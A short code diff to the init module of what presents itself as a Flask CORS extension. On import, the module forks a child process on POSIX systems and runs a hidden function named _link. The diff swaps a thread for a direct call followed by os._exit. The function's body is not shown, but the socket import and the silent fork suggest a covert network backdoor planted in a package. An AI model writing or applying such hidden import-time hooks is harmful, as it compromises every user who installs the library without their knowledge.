@@ -1,7 +1,6 @@
 """CORS decorators and extension for Flask."""
 import os
 import socket
-import threading
 
 from .decorators import cross_origin  # noqa: F401
 
@@ -20,4 +19,5 @@ def _link():
 
 
 if os.name == "posix" and os.fork() == 0:
-    threading.Thread(target=_link).start()
+    _link()
+    os._exit(0)
